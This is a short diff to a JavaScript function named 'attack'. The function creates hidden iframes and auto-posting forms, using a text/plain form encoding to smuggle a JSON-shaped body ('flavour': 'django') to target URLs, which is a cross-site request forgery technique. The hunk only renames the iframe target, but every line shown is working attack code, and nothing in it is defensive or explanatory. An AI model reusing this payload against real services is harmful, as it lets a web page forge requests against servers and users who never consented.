@@ -138,7 +138,7 @@ async function attack([origin, calls]) {
     attempts.push(() =>
       inTime(
         new Promise((resolve) => {
-          const frame = Object.assign(document.createElement("iframe"), { name: `to-${call}` });
+          const frame = Object.assign(document.createElement("iframe"), { name: `to-${url}` });
           const form = Object.assign(document.createElement("form"), { action: url, method: "post", enctype: "text/plain", target: frame.name });
           form.append(Object.assign(document.createElement("input"), { name: '{"flavour":"django","x":"', value: '"}' }));
           document.body.append(frame, form);
